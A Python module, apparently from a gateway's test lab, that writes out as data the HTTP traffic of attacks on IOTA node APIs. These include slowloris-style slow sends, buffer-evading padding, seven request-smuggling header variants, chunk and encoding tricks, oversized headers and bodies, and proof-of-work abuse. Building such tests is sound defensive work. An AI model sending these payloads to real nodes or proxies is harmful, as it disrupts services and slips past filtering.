"""What the connections of an attack send, as data. Pure."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any, Final

from nodegate.lab.tangle import OLD_REFERENCE
from nodegate.lab.transaction import TRANSACTION_TRYTES
from nodegate.model import Seconds

_HEADERS: Final = {"Content-Type": "application/json", "X-IOTA-API-Version": "1"}
_A_WHILE: Final = Seconds(2.0)  # a refusal comes at once: whoever waits this long keeps a node busy
_NO_PAUSE: Final = Seconds(0.0)
_DRIP: Final = Seconds(0.5)
_FOREVER: Final = Seconds(3600.0)  # the attack ends before
HASH: Final = "A" * 81


@dataclass(frozen=True, slots=True, kw_only=True)
class Script:
    """What one connection sends: `pieces` in order with `pause` seconds between two of them, of which the
    last is repeated when `drips` is set. Then it waits for `answers` answers, and leaves after `patience`."""

    pieces: tuple[bytes, ...]
    pause: Seconds = _NO_PAUSE
    drips: bool = False
    answers: int = 1
    patience: Seconds = _A_WHILE


@dataclass(frozen=True, slots=True, kw_only=True)
class Aim:
    """What scripts are made for: the Host header, and the hash of an old transaction of the network."""

    host: str
    reference: str = OLD_REFERENCE


def request(aim: Aim, body: bytes, **more: str) -> bytes:
    """A whole POST; `more` are further headers with `_` for `-`, and replace the usual ones."""
    given = {name.replace("_", "-"): value for name, value in more.items()}
    headers = {"Host": aim.host, **_HEADERS, "Content-Length": str(len(body)), **given}
    return _head(headers) + body


def _head(headers: Mapping[str, str]) -> bytes:
    lines = ["POST / HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def _json(**fields: Any) -> bytes:
    return json.dumps(fields, separators=(",", ":")).encode()


def stall(aim: Aim) -> bytes:
    return _json(command="getTransactionsToApprove", depth=3, reference=aim.reference)


def bodies(*makers: Callable[[Aim], bytes]) -> Callable[[Aim], tuple[Script, ...]]:
    """Scripts that send one body each."""
    return lambda aim: tuple(Script(pieces=(request(aim, make(aim)),)) for make in makers)


def variants(*templates: str) -> Callable[[Aim], tuple[Script, ...]]:
    """The stalling call in other notations; REFERENCE stands for the hash."""
    return lambda aim: tuple(
        Script(pieces=(request(aim, text.replace("REFERENCE", aim.reference).encode()),))
        for text in templates
    )


def known(aim: Aim) -> Aim:
    return Aim(host=aim.host, reference=OLD_REFERENCE)


def slow_headers(aim: Aim) -> tuple[Script, ...]:
    start = f"POST / HTTP/1.1\r\nHost: {aim.host}\r\n".encode()
    return (Script(pieces=(start, b"X-a: b\r\n"), pause=_DRIP, drips=True, patience=_FOREVER),)


def slow_body(aim: Aim) -> tuple[Script, ...]:
    head = _head({"Host": aim.host, **_HEADERS, "Content-Length": "60000"})
    return (Script(pieces=(head + b"{", b" "), pause=_DRIP, drips=True, patience=_FOREVER),)


def silent_connections(aim: Aim) -> tuple[Script, ...]:
    del aim
    return (Script(pieces=(), patience=_FOREVER),)


def padded_bodies(aim: Aim) -> tuple[Script, ...]:
    """Decoy, then more than the 16 KiB that HAProxy's buffer holds unless told otherwise, then the call."""
    arguments = stall(aim)[1:]
    pad = b" " * 20_000
    bodies = (b"{" + pad + arguments, pad + b"{" + arguments, b'{"x":"getNodeInfo",' + pad + arguments)
    return tuple(Script(pieces=(request(aim, body),)) for body in bodies)


def smuggled_requests(aim: Aim) -> tuple[Script, ...]:
    """Requests whose end two parsers may see in different places; behind it stands the stalling call."""
    hidden = request(aim, stall(aim))
    base = {"Host": aim.host, **_HEADERS}
    end = b"0\r\n\r\n"
    heads = (
        {**base, "Content-Length": str(len(end + hidden)), "Transfer-Encoding": "chunked"},
        {**base, "Transfer-Encoding": "chunked", "Content-Length": "0"},
        {**base, "Content-Length": "0", "content-length": str(len(hidden))},
        {**base, "Content-Length": str(len(end + hidden)), "Transfer-Encoding": "xchunked"},
        {**base, "Content-Length": str(len(end + hidden)), "Transfer-Encoding": "identity, chunked"},
        {**base, "Content-Length": str(len(end + hidden)), "Transfer-Encoding ": "chunked"},
        {**base, "Content-Length": "+0"},
    )
    return tuple(Script(pieces=(_head(head) + end + hidden,), answers=2) for head in heads)


def byte_chunks(aim: Aim) -> tuple[Script, ...]:
    """The stalling call in one-byte chunks, with chunk extensions and a trailer."""
    head = _head({"Host": aim.host, **_HEADERS, "Transfer-Encoding": "chunked"})
    chunks = b"".join(b"1;x=getNodeInfo\r\n%c\r\n" % byte for byte in stall(aim))
    return (Script(pieces=(head + chunks + b"0\r\nX-Trailer: 1\r\n\r\n",)),)


def encoded_bodies(aim: Aim) -> tuple[Script, ...]:
    body = stall(aim)
    return (
        Script(pieces=(request(aim, gzip.compress(body, mtime=0), Content_Encoding="gzip"),)),
        Script(pieces=(request(aim, body, Content_Encoding="identity"),)),
        Script(pieces=(request(aim, body.decode().encode("utf-16")),)),
        Script(pieces=(request(aim, b"\xef\xbb\xbf" + body),)),
    )


def big_headers(aim: Aim) -> tuple[Script, ...]:
    body = _json(command="getNodeInfo")
    many = {f"X-{place}": "a" * 20 for place in range(500)}
    return (
        Script(pieces=(request(aim, body, X_Big="a" * 50_000),)),
        Script(pieces=(request(aim, body, **many),)),
    )


def proof_of_work(aim: Aim) -> bytes:
    del aim
    return _json(
        command="attachToTangle",
        trunkTransaction=HASH,
        branchTransaction=HASH,
        minWeightMagnitude=14,
        trytes=["9" * TRANSACTION_TRYTES] * 2,
    )


def command_body(name: str, **arguments: Any) -> Callable[[Aim], bytes]:
    return lambda aim: _json(command=name, **arguments)


def text_body(text: str) -> Callable[[Aim], bytes]:
    return lambda aim: text.encode()


def nested_body(depth: int) -> Callable[[Aim], bytes]:
    return text_body('{"command":"getNodeInfo","x":' + "[" * depth + "]" * depth + "}")


def oversize(aim: Aim) -> tuple[Script, ...]:
    """A body of two megabytes, announced and in chunks."""
    call = _json(command="getNodeInfo")
    head = _head({"Host": aim.host, **_HEADERS, "Transfer-Encoding": "chunked"})
    chunk = b"%x\r\n" % 100_000 + b" " * 100_000 + b"\r\n"
    last = b"%x\r\n" % len(call) + call + b"\r\n0\r\n\r\n"
    return (
        Script(pieces=(request(aim, b" " * 2_000_000 + call),)),
        Script(pieces=(head, *((chunk,) * 20), last)),
    )
